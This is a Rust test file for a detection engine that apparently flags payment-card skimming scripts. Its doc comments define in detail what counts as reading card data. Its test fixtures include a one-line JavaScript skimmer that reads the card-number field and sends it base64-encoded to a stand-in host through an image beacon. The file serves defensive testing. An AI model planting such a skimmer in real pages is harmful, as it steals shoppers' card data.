//! Precision about what is read (issue 9, class 6): masked session replay (also through a
//! helper that hands non-text back unchanged, `if (typeof v !== 'string') return v`), a
//! borrowed position (`Array.prototype.indexOf.call(document.forms, form)`), address
//! autocomplete, keystroke timing and Luhn checks read no card data; nor do error-monitoring
//! breadcrumbs that name the element typed into, the chosen payment method
//! (`payment[method]`), or a FormData read by named `get`s of non-card fields. Keyloggers,
//! listeners and "breadcrumbs" that send the typed value, and FormData sent whole or read by
//! a card field's name, still do. A card field read by the browser's named access
//! (`cc_number.value` for `<input id="cc_number">`, no selector at all) is card data; its
//! length or Luhn check is not. A mask is any global replacement that leaves no digit
//! (`[\S]`, `[0-9a-z]`, all but the last four); a recorder's WeakMap of element numbers carries
//! no value, while values kept in a WeakMap and read back do; `input[type=email]` selects one
//! kind of field, not all of them. An early return on local flags (`if (!isEmail && !isPhone)
//! return;`) leaves an e-mail or phone field after it; a form's `action` is markup; a list
//! of the forms themselves (`forms.push({ el: form })`) holds elements, not what was typed.
//! A key denylist (`DENY.test(k) ? '[Filtered]' : o[k]`, also as `if`/`else`) keeps only
//! other fields' values; written the other way round it keeps the card's. So does an element
//! helper in a conditional (`masked(el) ? '[masked]' : el.value`). An autofill token
//! matched by its last word (`[autocomplete$="address-line1"]`) is one kind of field.
//! So is an element picked out of every input by a test of its token or name against a list
//! of address words and returned, or one a guard function of the script's own
//! (`if (!isPostal(f)) return;`) says is a postcode: handing it on hands on that one field.
//! `document.forms` and `form.elements` walked to attach timers and count filled fields are
//! held, not harvested; a scrubber that masks strings first and hands back only what is not
//! text or an object afterwards (`typeof v !== 'object' || v === null`) sends no typed text,
//! while one whose string branch returns the text still does.
//! `querySelector` with an attribute value known only at run time picks one field: an
//! address helper's `input[autocomplete$="' + token + '"]` is not every field, while the same
//! helper called with the card's tokens still reads the card.

mod engine_support;
use engine_support::{analyse, check_dir};

#[test]
fn what_is_read_decides_the_severity() {
    let (skim, legit) = check_dir("precision");
    assert!(
        skim >= 30 && legit >= 34,
        "{skim} skimmers, {legit} legitimate"
    );
}

/// A Shopify-style page whose card fields are `id="number"` and `id="name"`: a chat widget's
/// `visitor.name` and `var number` are not those fields, while a script that selects them
/// (`getElementById('number')`) still reads the card.
#[test]
fn generic_page_field_ids_name_fields_only_when_selected() {
    let fields: Vec<String> = ["number", "name", "expiry", "verification_value"]
        .map(String::from)
        .to_vec();
    let chat = "var visitor = { id: 'v1', name: null };\nvar first = document.getElementById('checkout_billing_address_first_name');\nfirst.addEventListener('change', function () { visitor.name = first.value; var number = visitor.name.length; ws.send(JSON.stringify({ name: visitor.name, n: number })); });\nvar ws = new WebSocket('wss://rt.chat-widget-vendor.example/v1');";
    let skim = "document.getElementById('place').addEventListener('click', function () { var n = document.getElementById('number').value; new Image().src = 'https://cdn-pixel-metrics.example/p?d=' + btoa(n); });";
    let engine = engine_support::engine();
    let mut jobs = Vec::new();
    for (name, code) in [("chat.js", chat), ("skim.js", skim)] {
        let mut j = engine_support::job(name, code);
        j.page_fields = fields.clone();
        jobs.push(j);
    }
    let r = engine.analyse_batch(jobs);
    let high = |i: usize| {
        r[i].findings
            .iter()
            .filter(|f| f.severity >= skimscan::finding::Severity::High)
            .map(|f| (f.rule.clone(), f.hosts.clone()))
            .collect::<Vec<_>>()
    };
    assert!(high(0).is_empty(), "{:?}", high(0));
    assert!(
        high(1)
            .iter()
            .any(|(rule, hosts)| rule == "payment-data-exfiltration"
                && hosts.iter().any(|h| h == "cdn-pixel-metrics.example")),
        "{:?}",
        high(1)
    );
}

/// `!el.value` and `typeof el.value` are a yes/no and a type about what was typed: the
/// script's recorded reads (its behaviour, which baseline diffs compare) do not say it reads
/// keystrokes; reading the value itself does.
#[test]
fn a_test_of_the_typed_value_is_not_a_read_of_it() {
    let check = "document.addEventListener('input', function (e) { var t = e.target; \
                 window.formState = { empty: !t.value, kind: typeof t.value }; });";
    let r = analyse("state.js", check);
    assert!(
        !r.behaviour.reads.contains("keystroke"),
        "{:?}",
        r.behaviour.reads
    );
    let read = "document.addEventListener('input', function (e) { var t = e.target; \
                window.formState = { v: t.value }; });";
    let r = analyse("state.js", read);
    assert!(
        r.behaviour.reads.contains("keystroke"),
        "{:?}",
        r.behaviour.reads
    );
}
